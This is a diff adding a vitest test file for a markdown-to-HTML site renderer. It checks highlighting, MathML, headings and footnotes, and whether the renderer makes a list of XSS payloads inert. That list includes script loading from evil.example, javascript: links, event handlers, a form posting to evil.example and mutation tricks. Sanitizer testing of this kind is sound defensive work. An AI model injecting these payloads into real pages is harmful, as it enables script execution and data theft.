@@ -1,0 +1,159 @@
+import rehypeRaw from 'rehype-raw'
+import { unified } from 'unified'
+import { visit } from 'unist-util-visit'
+import { expect, test } from 'vitest'
+import { fromMarkdown } from '../../src/markdown.js'
+import { restoreDirectives } from '../../src/site/directives.js'
+import { type HtmlOptions, renderBody } from '../../src/site/html.js'
+import { dressContainers } from '../../src/transform/callout.js'
+
+async function html(markdown: string, options?: HtmlOptions): Promise<string> {
+  const tree = fromMarkdown(markdown)
+  restoreDirectives(tree, markdown)
+  dressContainers(tree)
+  return renderBody(tree, options)
+}
+
+test('Python is coloured by classes', async () => {
+  expect(await html('```python\nmodel = Dense(10, name="a<b")  # last\n```')).toBe(
+    '<pre tabindex="0"><code class="language-python">model <span class="o">=</span> <span class="f">Dense</span>(' +
+      '<span class="n">10</span>, name<span class="o">=</span><span class="s">"a&#x3C;b"</span>)  ' +
+      '<span class="c"># last</span>\n</code></pre>',
+  )
+})
+
+test('executable cells of Quarto are Python too', async () => {
+  for (const info of ['{python}', '{.python filename="a.py"}', 'py', 'Python', '{{python}}'])
+    expect(await html(`\`\`\`${info}\nx = 1\n\`\`\``), info).toContain('<span class="n">1</span>')
+})
+
+test('code of no language or another one is shown as it is', async () => {
+  expect(await html('```\nx = 1\n```')).toBe('<pre tabindex="0"><code>x = 1\n</code></pre>')
+  expect(await html('```r\nx <- 1\n```')).toBe(
+    '<pre tabindex="0"><code class="language-r">x &#x3C;- 1\n</code></pre>',
+  )
+})
+
+test('formulas become MathML without inline style', async () => {
+  const made = await html('$8 \\cdot 12$ and\n\n$$\n\\rule{1em}{1em} \\boxed{x}\n$$')
+  expect(made).toContain('<mo>⋅</mo>')
+  expect(made).toContain('display="block"')
+  expect(made).not.toContain(' style=')
+})
+
+test('a formula that cannot be read is left as its source', async () => {
+  expect(await html('$\\frac{1$')).toBe('<p><code class="tex">\\frac{1</code></p>')
+})
+
+test('a formula cannot bring a link', async () => {
+  expect(await html('$\\href{javascript:alert(1)}{x}$')).not.toContain('href=')
+})
+
+test('times and labels that look like directives stay words', async () => {
+  expect(await html('At 12:30, Q2:B and :note[*this*]{.x}.')).toBe(
+    '<p>At 12:30, Q2:B and :note[<em>this</em>]{.x}.</p>',
+  )
+  expect(await html('::whatever[x]')).toBe('<p>::whatever[x]</p>')
+})
+
+test('headings start below the title, leave out no level and can be linked to', async () => {
+  expect(await html('# A b\n\n### C\n\n# A b\n\n[there](#a-b-1)')).toBe(
+    '<h2 id="post-a-b">A b</h2>\n<h3 id="post-c">C</h3>\n<h2 id="post-a-b-1">A b</h2>\n<p><a href="#post-a-b-1">there</a></p>',
+  )
+})
+
+test('ids of a post are never those of the page, and each stands once', async () => {
+  expect(await html('<p id="main">x</p>\n\n<p id="main">y</p>')).toBe('<p id="post-main">x</p>\n<p>y</p>')
+})
+
+test('footnotes lead there and back', async () => {
+  const made = await html('x[^1]\n\n[^1]: note')
+  expect(made).toContain('href="#post-fn-1" id="post-fnref-1"')
+  expect(made).toContain('<li id="post-fn-1">')
+  expect(made).toContain('href="#post-fnref-1"')
+  expect(made).toContain('aria-describedby="post-footnote-label"')
+})
+
+test('a picture of another host becomes a link to it', async () => {
+  expect(await html('![a pixel](https://example.com/p.png)')).toBe(
+    '<p><a href="https://example.com/p.png">a pixel</a></p>',
+  )
+  expect(await html('<img src="//example.com/p.png" alt="x">')).toBe('<a href="//example.com/p.png">x</a>')
+  expect(await html('![a plot](plot.png)')).toBe('<p><img src="plot.png" alt="a plot"></p>')
+})
+
+test('a wide table scrolls in a region that the keyboard reaches', async () => {
+  expect(await html('|a|\n|-|\n|1|')).toMatch(
+    /^<section class="table-scroll" aria-label="Table" tabindex="0"><table>/u,
+  )
+})
+
+const HOSTILE: readonly (readonly [name: string, markdown: string])[] = [
+  ['a script', 'x <script>alert(1)</script>\n\n<script src="//evil.example/x.js"></script>'],
+  ['an event attribute', '<img src="x.png" onerror="alert(1)"> <b onclick=alert(1)>x</b>'],
+  [
+    'a link that is code',
+    '[x](javascript:alert(1)) <a href="JaVaScRiPt:alert(1)">y</a> <a href="data:text/html,x">z</a>',
+  ],
+  ['an entity-hidden scheme', '[x](&#106;avascript:alert(1)) [y](java&#10;script:alert(1))'],
+  ['a style', '<style>*{display:none}</style><p style="position:fixed">x</p>'],
+  ['a frame', '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">'],
+  ['a form', '<form action="https://evil.example"><input name="q"><button>go</button></form>'],
+  [
+    'a base or meta',
+    '<base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+  ],
+  ['an SVG', '<svg onload="alert(1)"><script>alert(1)</script></svg>'],
+  ['MathML with a link', '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'],
+  ['mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
+  ['a template', '<template><img src=x onerror=alert(1)></template>'],
+  ['code with markup', '```python\n"</code></pre><script>alert(1)</script>"\n```'],
+  ['an info string with markup', '```"><script>alert(1)</script>\nx\n```'],
+  ['attributes of a div', '::: {.callout-note onclick="alert(1)" style="x" id="main"}\nx\n:::'],
+  ['a class that breaks out', '::: {.callout-note title="\\"><script>alert(1)</script>"}\nx\n:::'],
+  ['TeX', '$\\text{<script>alert(1)</script>}$ and $\\html{<img src=x onerror=alert(1)>}$'],
+]
+
+const RUNS = /^(?:script|style|iframe|object|embed|form|button|base|meta|svg|template|noscript)$/u
+
+/** What of a page's HTML could run, fetch or restyle, as a browser's parser sees it. */
+function live(made: string): readonly string[] {
+  const found: string[] = []
+  visit(
+    unified()
+      .use(rehypeRaw)
+      .runSync({ type: 'root', children: [{ type: 'raw', value: made }] }),
+    (node) => {
+      if (node.type !== 'element') return
+      if (RUNS.test(node.tagName)) found.push(node.tagName)
+      for (const [name, value] of Object.entries(node.properties)) {
+        if (/^(?:on|style$|srcdoc$|action$|formaction$)/iu.test(name)) found.push(name)
+        if (/^(?:href|src)$/u.test(name) && !/^(?:https?:|mailto:|[^:]*$)/u.test(String(value)))
+          found.push(String(value))
+      }
+    },
+  )
+  return found
+}
+
+test('the test of what is live finds what is', () => {
+  expect(live('<p onclick=x><script>1</script><a href="javascript:x">x</a>')).toEqual([
+    'onClick',
+    'script',
+    'javascript:x',
+  ])
+})
+
+test.each(HOSTILE)('%s comes out inert', async (_name, markdown) => {
+  expect(live(await html(markdown))).toEqual([])
+})
+
+test('raw HTML stays where a site trusts its authors', async () => {
+  expect(await html('<p style="color: red">x</p>', { allowHtml: true })).toBe('<p style="color: red">x</p>')
+})
+
+test('details that an author wrote stay', async () => {
+  expect(await html('<details>\n<summary>Why?</summary>\n\nx\n\n</details>')).toBe(
+    '<details>\n<summary>Why?</summary>\n<p>x</p>\n</details>',
+  )
+})
